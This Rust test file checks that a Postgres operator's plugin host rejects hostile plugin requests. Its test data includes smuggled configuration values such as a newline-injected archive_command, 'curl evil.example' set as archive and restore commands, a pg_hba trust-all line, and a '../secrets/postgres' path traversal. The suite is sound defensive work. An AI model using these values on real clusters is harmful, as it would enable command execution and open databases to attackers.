//! Guests that want the host to do with its rights what they may not do themselves.

use serde_json::{Value, json};

use super::{By, Case, guest};
use crate::script::Script;

const NOT_KEPT: &str = "is not one that the step keeps by an action credential";

fn credential(username: &str, labels: Value) -> Script {
    guest().action("credential", &["*"]).requests("role", "credential", json!({"username": username, "labels": labels}))
}

fn user_list(secret: &str, username: &str) -> Script {
    let list = json!({"secret": secret, "username": username});
    guest().action("user-list", &["{cluster}-*"]).requests("list", "user-list", list)
}

fn pooler_access(username: &str, schema: &str) -> Script {
    let access = json!({"username": username, "schema": schema});
    guest().action("pooler-access", &["*"]).requests("access", "pooler-access", access)
}

fn grows(claim: &str, subjects: &str) -> Script {
    guest().action("expand-claim", &[subjects]).requests("grow", "expand-claim", json!({"claim": claim}))
}

fn patroni(subject: &str, configuration: &str) -> Script {
    let parameters = json!({"configuration": configuration});
    guest().action("configure-patroni", &[subject]).requests("patroni", "configure-patroni", parameters)
}

/// A guest that asks for promotions, and requests one with each of these keys.
fn promotes(keys: &[&str]) -> Script {
    let asks = guest().action("promote", &[]);
    keys.iter().fold(asks, |script, key| script.requests(key, "promote", json!({})))
}

pub(super) fn cases() -> Vec<Case> {
    [roles(), subjects(), patronis(), keys()].into_iter().flatten().collect()
}

fn roles() -> Vec<Case> {
    vec![
        Case::new(
            "has the superuser's password written to a Secret",
            user_list("acid-orders-x", "postgres"),
            By::Action,
            &["the role \"postgres\"", NOT_KEPT],
        ),
        Case::new(
            "has the password of another step's role written to a Secret",
            user_list("acid-orders-x", "monitor"),
            By::Action,
            &["the role \"monitor\"", NOT_KEPT],
        ),
        Case::new(
            "has a user list written to a Secret of others",
            user_list("application", "postgres"),
            By::Answer,
            &["action list is about \"application\"", "does not ask for user-list of that"],
        ),
        Case::new(
            "takes over a role of the manifest",
            credential("foo_user", json!([])),
            By::Action,
            &["the step gets no role \"foo_user\"", "the manifest's users"],
        ),
        Case::new(
            "takes over the superuser",
            credential("postgres", json!([])),
            By::Action,
            &["the step gets no role \"postgres\""],
        ),
        Case::new(
            "takes over the Secret of the superuser by a name in other letters",
            credential("Postgres", json!([])),
            By::Action,
            &["the step gets no role \"Postgres\"", "its Secret would have the name of that of role \"postgres\""],
        ),
        Case::new(
            "takes over the Secret of a role of the manifest by a hyphen in the name",
            credential("foo-user", json!([])),
            By::Action,
            &["the step gets no role \"foo-user\"", "its Secret would have the name of that of role \"foo_user\""],
        ),
        Case::new(
            "makes a role with the name of all roles",
            credential("public", json!([])),
            By::Action,
            &["the step gets no role \"public\""],
        ),
        Case::new(
            "hides the Secret of its role from the cluster",
            credential("spy", json!([["cluster-name", "acid-other"]])),
            By::Action,
            &["the label cluster-name identifies the cluster's objects, and a plugin cannot change it"],
        ),
        Case::new(
            "lets all roles look up passwords",
            pooler_access("public", "look"),
            By::Action,
            &["the role \"public\"", NOT_KEPT],
        ),
        Case::new(
            "puts its function into a schema of the system",
            pooler_access("spy", "pg_catalog"),
            By::Action,
            &["\"pg_catalog\" is not a name that a schema can have"],
        ),
    ]
}

fn subjects() -> Vec<Case> {
    vec![
        Case::new(
            "grows the claim of another cluster",
            grows("pgdata-acid-other-0", "pgdata-{cluster}-*"),
            By::Answer,
            &["action grow is about \"pgdata-acid-other-0\"", "does not ask for expand-claim of that"],
        ),
        Case::new(
            "leads a request to another URL by the name of a claim",
            grows("../secrets/postgres", "*"),
            By::Action,
            &["\"../secrets/postgres\" is not a name that an object can have"],
        ),
        Case::new(
            "ends the standby without asking for it",
            guest().requests("promote", "promote", json!({})),
            By::Answer,
            &["does not ask for promote"],
        ),
        Case::new(
            "ends the standby without a grant",
            promotes(&["promote"]).optional("actions"),
            By::Action,
            &["the pipeline does not grant promote to the step"],
        )
        .step("grants", json!({})),
    ]
}

fn patronis() -> Vec<Case> {
    let case = |name, subject, configuration, about: &'static str| {
        let says = &[about, "does not ask for configure-patroni of that"];
        Case::new(name, patroni(subject, configuration), By::Answer, says)
    };
    vec![
        Case::new(
            "runs a command by a name of a parameter that has lines",
            patroni(
                "postgresql.parameters.*",
                r#"{"postgresql":{"parameters":{"a.b = '1'\narchive_command = 'steal'\na.b":"1"}}}"#,
            ),
            By::Answer,
            &["the configuration for Patroni has the key", "letters, digits, `_`, `-`, `$` and `.` only"],
        ),
        Case::new(
            "runs a command by a name of a parameter that has a value and a comment",
            patroni("postgresql.parameters.*", r#"{"postgresql":{"parameters":{"archive_command=steal#.a":"1"}}}"#),
            By::Answer,
            &["the configuration for Patroni has the key"],
        ),
        case(
            "runs a command by archive_command",
            "postgresql.parameters.*",
            r#"{"postgresql":{"parameters":{"archive_command":"curl evil.example"}}}"#,
            "\"postgresql.parameters.archive_command\"",
        ),
        case(
            "runs a command by restore_command",
            "postgresql.recovery_conf",
            r#"{"postgresql":{"recovery_conf":{"restore_command":"curl evil.example"}}}"#,
            "\"postgresql.recovery_conf.restore_command\"",
        ),
        case(
            "loads a library into the database",
            "postgresql",
            r#"{"postgresql":{"parameters":{"shared_preload_libraries":"evil"}}}"#,
            "\"postgresql.parameters.shared_preload_libraries\"",
        ),
        case(
            "opens the database to everybody by pg_hba",
            "postgresql",
            r#"{"postgresql":{"pg_hba":["host all all all trust"]}}"#,
            "\"postgresql.pg_hba\"",
        ),
        Case::new(
            "writes the host's notes in Patroni's configuration",
            patroni("*", r#"{"pgloom":{"a":"b"}}"#),
            By::Answer,
            &["action patroni: the configuration for Patroni has the key in which the host keeps its notes"],
        ),
        Case::new(
            "wants another value than an earlier step",
            patroni("ttl", r#"{"ttl":5}"#),
            By::Answer,
            &[
                "action patroni of step hostile wants 5",
                "action ttl of step database wants 30",
                "remove one of the steps",
            ],
        ),
        Case::new(
            "gives one key of Patroni's configuration twice",
            patroni("ttl", r#"{"ttl":30,"ttl":5}"#),
            By::Answer,
            &["action patroni: the configuration for Patroni is not a JSON object: the key \"ttl\" is there twice"],
        ),
    ]
}

fn keys() -> Vec<Case> {
    let case = |name, script, says: &'static str| Case::new(name, script, By::Answer, &[says]);
    vec![
        case(
            "gives two actions one key",
            promotes(&["a", "a"]),
            "two actions have the key \"a\"; give each a key of its own",
        ),
        case(
            "gives an action a key of 4000 characters",
            promotes(&[&"a".repeat(4000)]),
            "has a key of 4000 bytes; use 1 to 253",
        ),
        case(
            "writes a line break into the key of an action",
            promotes(&["a\nb"]),
            "has the key \"a\\nb\", which holds a control character",
        ),
    ]
}
